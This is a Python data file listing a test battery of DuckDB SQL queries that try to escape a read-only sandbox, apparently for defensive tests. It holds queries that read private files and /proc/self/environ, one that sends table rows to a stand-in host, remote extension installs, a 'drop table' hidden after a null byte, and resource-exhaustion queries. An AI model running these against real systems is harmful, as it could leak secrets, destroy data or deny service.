"""Ways out of the sandbox: what each is called, what is tried, and what it would reach.

Belongs here: the battery, as data. Does not belong here: the doors it is tried at (test_battery.py).

{home} is a folder that holds the released file and private.csv, whose content must come out nowhere.
"""

from __future__ import annotations

from collections import Counter
from typing import NamedTuple


class Attempt(NamedTuple):
    """One way out. reaches: what it would have if it worked."""

    name: str
    sql: str
    reaches: str


def _each(reaches: str, **tried: str) -> tuple[Attempt, ...]:
    return tuple(Attempt(name, sql, reaches) for name, sql in tried.items())


_WRITES = "(format csv, use_tmp_file false)"
_DEEP = 3_000

FILES = _each(
    "content or names of files",
    named_as_table="select * from '{home}/private.csv'",
    named_as_table_in_quotes='select * from "{home}/private.csv"',
    named_as_parquet="from '{home}/private.parquet'",
    named_as_json="from '{home}/private.json'",
    named_as_database="from '{home}/private.duckdb'",
    by_a_link="from '{home}/link.csv'",
    by_a_link_read="from read_text('{home}/link.csv')",
    by_dots="from read_text('{home}/../{folder}/private.csv')",
    by_a_relative_name="from 'private.csv'",
    by_a_file_address="from read_csv('file://{home}/private.csv')",
    by_a_pattern="from '{home}/*.csv'",
    in_a_subquery="select (select content from read_text('{home}/private.csv'))",
    in_a_join="from core.figures, lateral read_text('{home}/' || 'private.csv')",
    in_a_cte="with x as (from read_text('{home}/private.csv')) from x",
    in_a_cte_never_read="with x as (from read_text('{home}/private.csv')) select 1",
    in_a_union="select 'a' union all select content from read_text('{home}/private.csv')",
    in_exists="select exists (from read_csv('{home}/private.csv') where secret = 'hushhush')",
    in_an_error="select error((select content from read_text('{home}/private.csv')))",
    in_a_pivot="pivot (from read_csv('{home}/private.csv')) on secret in ('hushhush') using count(*)",
    in_describe="describe from read_csv('{home}/private.csv')",
    in_summarize="summarize from read_csv('{home}/private.csv')",
    in_summarize_by_name="summarize '{home}/private.csv'",
    in_explain="explain analyze from read_csv('{home}/private.csv')",
    in_a_list_of_files="from read_csv(['{home}/private.csv', '{home}/link.csv'])",
    name_spelled_with_schema="from main.read_text('{home}/private.csv')",
    name_spelled_with_catalog="from system.main.read_text('{home}/private.csv')",
    name_in_quotes="from \"read_text\"('{home}/private.csv')",
    name_in_capitals="from READ_TEXT('{home}/private.csv')",
    name_in_unicode_escape="from U&\"read\\005ftext\"('{home}/private.csv')",
    name_of_wide_letters="from \uff52\uff45\uff41\uff44_text('{home}/private.csv')",
    behind_comments="from /* from core.figures */ read_text/**/('{home}/private.csv') -- ;",
    in_dollar_quotes="from read_text($${home}/private.csv$$)",
    put_together="from read_text(concat('{home}', chr(47), 'private.csv'))",
    by_query="from query('from read_text(''{home}/private.csv'')')",
    by_query_of_nothing_bad="from query('select 1')",
    by_query_table="from query_table('{home}/private.csv')",
    by_query_table_of_many="from query_table(['{home}/private.csv', 'core.figures'])",
    by_serialized_sql="from json_execute_serialized_sql(json_serialize_sql('from ''{home}/private.csv'''))",
    by_pragma_of_serialized_sql="pragma json_execute_serialized_sql('{{}}')",
    by_a_macro_of_its_own="create temp macro m() as table from read_text('{home}/private.csv')",
    by_environment="select getenv('HOME')",
    by_old_system_file="from read_text('/proc/self/environ')",
    by_memory_of_the_process="from read_blob('/proc/self/mem')",
    by_standard_input="from read_csv('/dev/stdin')",
    by_a_dataframe_of_the_program="from settings",
    by_a_dataframe_of_the_caller="from planted_frame",
    by_a_module_of_the_program="from pl",
    by_at_version="from core.figures at (version => 1)",
)
NETWORK = _each(
    "another machine",
    by_address="from read_csv('https://toys.example/list.csv')",
    by_address_as_table="from 'http://127.0.0.1:9/list.parquet'",
    by_bucket="from 's3://toys/list.parquet'",
    by_hub="from 'hf://datasets/toys/list.csv'",
    carrying_rows_out="from read_text('http://127.0.0.1:9/?' || (select min(name) from core.figures))",
    attach_by_address="attach 'https://toys.example/a.duckdb' as a",
    attach_postgres="attach 'host=127.0.0.1' as p (type postgres)",
    attach_mysql="attach 'host=127.0.0.1' as m (type mysql)",
    attach_ducklake="attach 'ducklake:toys' as d",
    copy_to_address="copy core.figures to 'http://127.0.0.1:9/out.csv'",
)
WRITING = _each(
    "files it could write",
    copy_a_query="copy (select 1) to '{home}/out.csv'",
    copy_a_table="copy core.figures to '{home}/out.parquet' (format parquet)",
    copy_partitioned="copy core.figures to '{home}/out' (format parquet, partition_by (code))",
    copy_over_the_release=f"copy (select 1) to '{{home}}/statecraft.duckdb' {_WRITES}",
    copy_over_its_log=f"copy (select 1) to '{{home}}/statecraft.duckdb.wal' {_WRITES}",
    copy_to_standard_output="copy core.figures to '/dev/stdout'",
    copy_in_a_cte=f"with x as (copy (select 1) to '{{home}}/statecraft.duckdb' {_WRITES}) select * from x",
    copy_explained=f"explain analyze copy (select 1) to '{{home}}/statecraft.duckdb.wal' {_WRITES}",
    copy_explained_with_options=f"explain (analyze) copy (select 1) to '{{home}}/statecraft.duckdb.wal' {_WRITES}",
    copy_explained_twice=f"explain explain analyze copy (select 1) to '{{home}}/statecraft.duckdb.wal' {_WRITES}",
    copy_after_an_explain="select 1; --x\nexplain \nselect 1; copy (select 4) to '{home}/statecraft.duckdb' " + _WRITES,
    copy_in_a_cte_explained=f"explain analyze with x as (copy (select 1) to '{{home}}/x' {_WRITES}) from x",
    copy_by_query="from query('with x as (copy (select 1) to ''{home}/x'' (use_tmp_file false)) from x')",
    copy_into_the_release="copy core.figures from '{home}/private.csv'",
    copy_a_database="copy from database statecraft to memory",
    export_database="export database '{home}/out'",
    import_database="import database '{home}'",
    logging_to_a_file="select * from enable_logging(storage='file', storage_path='{home}/log')",
    profiling_to_a_file="call enable_profiling(format='json', save_location='{home}/profile')",
    spill_folder_of_its_choice="set temp_directory = '{home}/spill'",
)
ATTACHING = _each(
    "other databases, code, keys",
    attach_a_new_file="attach '{home}/out.duckdb' as other",
    attach_a_private_file="attach '{home}/private.duckdb' as other (read_only)",
    attach_the_release_again="attach '{home}/statecraft.duckdb' as other",
    attach_to_write="attach '{home}/statecraft.duckdb' as other (read_write)",
    attach_memory="attach ':memory:' as other",
    attach_sqlite="attach '{home}/private.db' as s (type sqlite)",
    attach_or_replace="attach or replace '{home}/private.duckdb' as statecraft",
    detach="detach statecraft",
    use_another="use memory",
    install="install httpfs",
    install_from_elsewhere="install toy from 'http://127.0.0.1:9'",
    install_of_the_community="install toy from community",
    force_install="force install httpfs",
    load="load httpfs",
    load_a_file="load '{home}/private.csv'",
    update_extensions="update extensions",
    secret="create secret s (type http)",
    secret_kept="create persistent secret s (type http)",
    secret_dropped="drop secret s",
    secrets_listed="from duckdb_secrets()",
    secrets_listed_in_clear="from duckdb_secrets(redact => false)",
)
BOUNDS = _each(
    "its own bounds",
    external_access="set enable_external_access = true",
    external_access_everywhere="set global enable_external_access = true",
    external_access_by_pragma="pragma enable_external_access=true",
    allowed_directories="set allowed_directories = ['/']",
    allowed_paths="set allowed_paths = ['{home}/private.csv']",
    memory="set memory_limit = '100GB'",
    memory_by_pragma="pragma memory_limit='100GB'",
    spill_size="set max_temp_directory_size = '900GB'",
    threads="reset threads",
    depth="set max_expression_depth = 1000000000",
    lock="set lock_configuration = false",
    lock_reset="reset lock_configuration",
    variables="set variable x = (select content from read_text('{home}/private.csv'))",
    secret_directory="set secret_directory = '{home}'",
    extension_directory="set extension_directory = '{home}'",
    home_directory="set home_directory = '{home}'",
    unsigned_extensions="set allow_unsigned_extensions = true",
    disabled_filesystems="reset disabled_filesystems",
    python_names="set python_enable_replacements = true",
    python_frames="set python_scan_all_frames = true",
    logging="call enable_logging()",
    profiling="pragma enable_profiling='json'",
    profile_file="pragma profiling_output='{home}/out.json'",
    grammar="from add_grammar_extension('x')",
    settings_in_a_cte="with x as (set threads = 64) select 1",
)
CHANGING = _each(
    "the release",
    insert="insert into core.figures values (99, 'x')",
    insert_in_a_cte="with x as (insert into core.figures values (99, 'x') returning *) select * from x",
    update="update core.figures set name = 'x'",
    delete="delete from core.figures",
    merge="merge into core.figures using (select 1 as code) s on false when not matched then insert values (1, 'x')",
    truncate="truncate core.figures",
    drop="drop table core.figures",
    alter="alter table core.figures add column x int",
    comment="comment on table core.figures is 'x'",
    create="create table core.mine as select 1",
    create_temp="create temp table mine as select 1",
    create_view="create or replace view core.figures as select 1",
    create_type="create type t as enum (select name from core.figures)",
    create_index="create index i on core.figures (code)",
    create_sequence="create temp sequence s",
    replace_macro="create or replace macro core.figure_of(x) as 1",
    select_into="select 1 into core.mine",
    checkpoint="checkpoint",
    checkpoint_by_function="from checkpoint()",
    force_checkpoint="from force_checkpoint()",
    vacuum="vacuum",
    analyze="analyze",
)
SEVERAL = _each(
    "more than one statement",
    two="select 1; select 2",
    two_with_a_copy=f"select 1; copy (select 1) to '{{home}}/statecraft.duckdb' {_WRITES}",
    transaction="begin; select 1",
    transaction_alone="begin transaction",
    prepare="prepare p as select 1",
    execute="execute p(1)",
    deallocate="deallocate p",
    call="call pragma_version()",
    behind_a_zero_byte="select 1\x00; drop table core.figures",
    behind_a_comment_in_unicode="select 1 \u2028; drop table core.figures",
    parameters_not_given="select $1",
    parameters_unnamed="select ?",
)
SIZE = _each(
    "more of the machine than is its own",
    text_too_long="select '" + "x" * 600_000 + "'",
    brackets="select " + "(" * 20_000 + "1" + ")" * 20_000,
    subqueries="select * from " + "(select * from " * _DEEP + "core.figures" + ")" * _DEEP,
    joins="from " + ", ".join(f"core.figures f{i}" for i in range(_DEEP)),
    ctes="with " + ", ".join(f"a{i} as ({f'from a{i - 1}' if i else 'select 1'})" for i in range(_DEEP)) + "from a2999",
    sums="select " + " + ".join(["1"] * 20_000),
    unions=" union all ".join(["select 1"] * 20_000),
    one_huge_list="select list(i) from range(1000000000) as t(i)",
    one_huge_text="select string_agg(repeat('x', 1000000), '') from range(100000)",
)
#: DuckDB does not count a single value against its memory limit: only the bound of the process stops these.
HUGE_VALUES = _each(
    "more memory than DuckDB counts",
    repeated="select length(repeat('x', 3000000000))",
    formatted="select length(printf('%2147483646d', 1))",
    padded="select length(lpad('x', 2000000000, 'y'))",
    joined="select length(concat_ws(repeat('x', 1000000000), 'a', 'b', 'c', 'd'))",
    replaced="select length(replace(repeat('x', 100000), 'x', repeat('y', 100000)))",
    listed="select len(range(4000000000))",
)
ENDLESS = _each(
    "more time than is its own",
    cross_join="select sum(hash(a.i * b.i)) from range(10000000) a(i), range(1000000) b(i)",
    recursion="with recursive r as (select 1 as n union all select n + 1 from r) select count(*) from r",
    growing_recursion="with recursive r as (select 1 n union all select n + i from r, range(9) t(i)) from r",
    counting="select * from range(1000000000000) where range < 0",
    counting_series="select count(*) from generate_series(1, 1000000000000) t(i) where hash(i) = 1",
    sleeping="select sleep_ms(3600000)",
    sleeping_as_postgres="select pg_sleep(3600)",
    sleeping_by_row="select count(*) from range(1000000) t(i) where sleep_ms(1000 + i) is not null",
)

#: Every function of DuckDB that rows can be selected from and that a query may not call, with a call of it.
REFUSED_FUNCTIONS = {
    "add_grammar_extension": "'x'",
    "arrow_scan": "1::uint64, 2::uint64, 3::uint64",
    "arrow_scan_dumb": "1::uint64, 2::uint64, 3::uint64",
    "checkpoint": "",
    "create_external_resource": "'x'",
    "deregister_external_resource": "'x'",
    "destroy_external_resource": "'x'",
    "disable_logging": "",
    "disable_profiling": "",
    "duckdb_approx_database_count": "",
    "duckdb_available_metrics": "",
    "duckdb_connection_count": "",
    "duckdb_coordinate_systems": "",
    "duckdb_dialects": "",
    "duckdb_eviction_queues": "",
    "duckdb_extension_repositories": "",
    "duckdb_external_file_cache": "",
    "duckdb_external_resource_types": "",
    "duckdb_external_resources": "",
    "duckdb_grammar_extensions": "",
    "duckdb_live_query_metrics": "",
    "duckdb_log_contexts": "",
    "duckdb_logs": "",
    "duckdb_logs_parsed": "'QueryLog'",
    "duckdb_prepared_statements": "",
    "duckdb_profiling_settings": "",
    "duckdb_secret_type_parameters": "",
    "duckdb_secret_types": "",
    "duckdb_secrets": "",
    "duckdb_table_sample": "'core.figures'",
    "duckdb_temporary_files": "",
    "duckdb_triggers": "",
    "enable_logging": "storage='file', storage_path='{home}/log'",
    "enable_profiling": "format='json', save_location='{home}/profile'",
    "force_checkpoint": "",
    "glob": "'{home}/*'",
    "json_execute_serialized_sql": "json_serialize_sql('select 1')",
    "pandas_scan": "1::uint64",
    "parquet_bloom_probe": "'{home}/private.parquet', 'secret', 'hushhush'",
    "parquet_file_metadata": "'{home}/private.parquet'",
    "parquet_full_metadata": "'{home}/private.parquet'",
    "parquet_kv_metadata": "'{home}/private.parquet'",
    "parquet_metadata": "'{home}/private.parquet'",
    "parquet_page_index": "'{home}/private.parquet'",
    "parquet_scan": "'{home}/private.parquet'",
    "parquet_schema": "'{home}/private.parquet'",
    "pragma_metadata_info": "'statecraft'",
    "pragma_user_agent": "",
    "python_arrow_scan": "1::uint64",
    "python_map_function": "1::uint64",
    "query": "'select 1'",
    "read_blob": "'{home}/private.csv'",
    "read_csv": "'{home}/private.csv'",
    "read_csv_auto": "'{home}/private.csv'",
    "read_duckdb": "'{home}/private.duckdb'",
    "read_json": "'{home}/private.json'",
    "read_json_auto": "'{home}/private.json'",
    "read_json_objects": "'{home}/private.json'",
    "read_json_objects_auto": "'{home}/private.json'",
    "read_ndjson": "'{home}/private.json'",
    "read_ndjson_auto": "'{home}/private.json'",
    "read_ndjson_objects": "'{home}/private.json'",
    "read_parquet": "'{home}/private.parquet'",
    "read_single_csv_file": "'{home}/private.csv'",
    "read_single_json_file": "'{home}/private.json'",
    "read_single_parquet_file": "'{home}/private.parquet'",
    "read_text": "'{home}/private.csv'",
    "register_external_resource": "'x'",
    "register_external_resource_type": "'x'",
    "remove_grammar_extension": "'x'",
    "seq_scan": "",
    "sniff_csv": "'{home}/private.csv'",
    "test_vector_types": "1",
    "truncate_duckdb_logs": "",
    "which_secret": "'s3://toys', 's3'",
}
CALLS = tuple(
    Attempt(f"function_{name}", f"from {name}({given})", "what a function of DuckDB can do beyond the release")
    for name, given in REFUSED_FUNCTIONS.items()
)
#: Refused before anything of it runs, or by DuckDB's own bounds.
ATTEMPTS = (*FILES, *NETWORK, *WRITING, *ATTACHING, *BOUNDS, *CHANGING, *SEVERAL, *SIZE, *CALLS)
#: Harmless but for how long they take: stopped when their time is up.
ENDLESS_ATTEMPTS = ENDLESS
#: Only to be tried in a process that is bounded.
HUGE_ATTEMPTS = HUGE_VALUES


def counts() -> dict[str, int]:
    """What is tried, by what it would reach: for docs/reliability.md."""
    return dict(Counter(attempt.reaches for attempt in (*ATTEMPTS, *ENDLESS_ATTEMPTS, *HUGE_ATTEMPTS)))
